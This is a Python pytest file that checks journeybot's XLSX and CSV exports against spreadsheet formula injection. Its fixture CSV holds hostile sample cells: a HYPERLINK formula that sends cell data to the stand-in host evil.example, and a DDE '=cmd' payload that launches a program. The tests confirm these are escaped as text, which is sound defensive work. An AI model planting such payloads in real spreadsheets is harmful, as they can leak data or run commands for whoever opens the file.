"""Fault: spreadsheet formula injection (issue 20 item 1).

A touchpoint, channel or customer text that starts with = + - @ must reach every spreadsheet
and CSV journeybot writes as text, never as a live formula, while real numbers, also negative
ones, stay numbers. Files are read back the way a person's program would: openpyxl for XLSX
(a formula cell has data_type "f") and the csv module for CSV."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fakes.slack_harness import buttons_of
from journey_map_fixtures import hand_map
from openpyxl import load_workbook

from tools.core.cells import TRIGGERS, csv_bytes
from tools.data.ingest import ingest_file
from tools.data.store import JourneyStore
from tools.journey_map.render import render_file
from tools.journey_map.tool import journey_map
from tools.journey_map.types import JourneyMapParams

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")'
EVENTS = (
    "customer_id,ts,touchpoint,channel,stage\n"
    f'C1,2026-05-01 10:00,"{EVIL.replace(chr(34), chr(34) * 2)}",instagram,consideration\n'
    "C2,2026-05-01 11:00,website_visit,-2+3,awareness\n"
    "C2,2026-05-02 11:00,\"=cmd|' /C calc'!A0\",search,decision\n"
    "C3,2026-05-02 12:00,@SUM(1+1),+search,awareness\n"
)


def _starts_a_formula(text: str) -> bool:
    """What a spreadsheet program could evaluate: a trigger first (after blanks), unless the
    cell is a plain number such as -12.5 or the lone "-" the tables use for "no value"."""
    bare = text.strip(" \t\r\n")
    if not text or bare == "-" or re.fullmatch(r"[+-]?[\d,]*\.?\d+%?", bare):
        return False
    return text[0] in TRIGGERS or bare[:1] in tuple(TRIGGERS)


@pytest.fixture
def evil_store(tmp_path):
    (tmp_path / "events.csv").write_text(EVENTS)
    store = JourneyStore(None, timezone="Europe/London")
    ingest_file(store, "events", tmp_path / "events.csv")
    yield store
    store.close()


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def test_fault_formula_touchpoint_is_text_in_journey_map_xlsx(evil_store):
    cells = _xlsx_cells(render_file(journey_map(evil_store, JourneyMapParams()), "xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _starts_a_formula(t)]
    # The touchpoint is still there for the owner to read, behind the quote.
    assert any(t.startswith("'=hyperlink(") for t in texts)


def test_fault_formula_touchpoint_is_text_in_journey_map_csv(evil_store):
    cells = _csv_cells(render_file(journey_map(evil_store, JourneyMapParams()), "csv"))
    assert not [c for c in cells if _starts_a_formula(c)]
    assert any(c.startswith("'=hyperlink(") for c in cells)
    assert any(c.startswith("'=cmd|") for c in cells)


def test_fault_formula_cells_are_text_in_the_comparison_csv_and_xlsx(evil_store):
    params = JourneyMapParams(compare_period={"name": "last_7_days"}, period={"name": "last_30_days"})
    comparison = journey_map(evil_store, params)
    assert not [c for c in _csv_cells(render_file(comparison, "csv")) if _starts_a_formula(c)]
    cells = _xlsx_cells(render_file(comparison, "xlsx"))
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and _starts_a_formula(c.value)]


def test_fault_negative_numbers_stay_numbers_in_the_spreadsheet():
    # The hand-made map's decision stage has a mean sentiment of -0.40 (was +0.30).
    wb = load_workbook(io.BytesIO(render_file(hand_map(), "xlsx")))
    numbers = wb["Numbers"]
    header = [c.value for c in numbers[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in numbers.iter_rows(min_row=2)]
    sentiment = next(r for r in rows if r["stage"] == "decision" and r["item"] == "mean sentiment")
    assert sentiment["value"] == pytest.approx(-0.40) and isinstance(sentiment["value"], float)
    cell = next(c for row in numbers.iter_rows(min_row=2) for c in row if c.value == sentiment["value"])
    assert cell.data_type == "n"


def test_fault_negative_numbers_and_number_text_stay_as_they_are_in_csv():
    import pandas as pd

    frame = pd.DataFrame({"metric": ["=1+1", "revenue", "-12%"], "change": [-12.5, 3.0, -0.25],
                          "shown": ["-1,234", "+4", "- less"]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[1:] == [["'=1+1", "-12.5", "-1,234"], ["revenue", "3.0", "+4"], ["-12%", "-0.25", "'- less"]]


def test_fault_formula_cells_are_text_in_slack_show_the_data_csv(make_slack, evil_store):
    from bot.agent.catalog import all_tools

    slack = make_slack(store=evil_store, tools=all_tools())
    body, _ = slack.mention("where do we lose people by touchpoint?")
    thread = body["event"]["ts"]
    update = slack.answer_in(thread)
    slack.click("show_data", buttons_of(update)["show_data"], message_ts=update.params["ts"], thread_ts=thread)
    slack.fake.wait_for("files.completeUploadExternal")
    content = slack.fake.calls_to("upload")[0].body
    cells = _csv_cells(content)
    assert any(c.startswith("'=cmd|") for c in cells) and any(c.startswith("'=hyperlink(") for c in cells)
    assert not [c for c in cells if _starts_a_formula(c)]
